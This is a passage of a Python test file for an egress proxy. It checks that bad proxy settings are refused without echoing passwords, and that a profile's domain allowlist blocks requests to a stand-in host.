        assert get["proxy-authorization"] == upstream.expected


async def test_a_malformed_context_options_proxy_is_refused_without_the_password(
    rt: Runtime,
) -> None:
    own = {"server": "http://proxy.local:3128", "passwrd": PASSWORD}  # a typo in the name
    with pytest.raises(EgressConflictError, match=r"context_options\['proxy'\]") as caught:
        async with session_for(rt, context_options={"proxy": own}):
            pytest.fail("the session must not open")
    error: BaseException | None = caught.value
    while error is not None:  # nor in what it was raised from (pydantic's error quotes input)
        assert PASSWORD not in repr(error) and PASSWORD not in str(error)
        error = error.__cause__ or error.__context__


@pytest.mark.parametrize(
    ("server", "scheme"),
    [
        ("socks5://127.0.0.1:1080", "socks5://"),
        ("https://proxy.local:3128", "https://"),
        (f"socks4://u:{PASSWORD}@proxy.local:1080", "socks4://"),
    ],
)
async def test_a_proxy_that_cannot_be_chained_is_a_clear_error(
    rt: Runtime, server: str, scheme: str
) -> None:
    settings = ProfileSettings(proxy=ProxySettings(server=server, username="u", password=PASSWORD))
    with pytest.raises(EgressConflictError) as caught:
        async with session_for(rt, settings=settings):
            pytest.fail("the session must not open")
    message = str(caught.value)
    assert message.startswith("profile 'egress': the proxy is " + scheme)
    assert "only be chained through an http:// proxy" in message
    assert isinstance(caught.value, UserError) and PASSWORD not in message


def test_credentials_in_the_server_url_are_refused_without_echoing_them() -> None:
    server = f"http://u:{PASSWORD}@proxy.local:3128"
    with pytest.raises(EgressConflictError, match="username and password") as caught:
        EgressProxy.start(["allowed.test"], upstream=ProxySettings(server=server))
    assert PASSWORD not in str(caught.value)
    assert PASSWORD not in repr(ProxySettings(server="http://p:1", password=PASSWORD))


# --- a profile's own allowlist ----------------------------------------------------------------


async def test_a_profiles_allowlist_holds_alone_and_narrows_a_tasks(
    rt: Runtime, allowed: Site, evil: Site
) -> None:
    own = ProfileSettings(allowed_domains=["allowed.test"])
    # The profile's list alone: the session gets the proxy even without a task list.
    async with session_for(rt, (), settings=own) as session:
        egress, page = await proxy_and_page(session)
        await load_allowed(page, allowed)
        await page.goto(evil.url("evil.test"))
        await wait_blocked(egress, to(evil))
    await rt.profiles.delete("egress")
    # A task that allows both hosts cannot widen the profile's list: a host must be on both.
    async with session_for(rt, ("allowed.test", "evil.test"), settings=own) as session:
        egress, page = await proxy_and_page(session)
        await load_allowed(page, allowed)
        await page.goto(evil.url("evil.test"))
        await wait_blocked(egress, to(evil))
    assert not evil.requests


def test_a_profiles_allowlist_is_checked_when_the_profile_is_made() -> None:
    with pytest.raises(ValueError, match="allowed_domains"):
        ProfileSettings(allowed_domains=["not a host"])
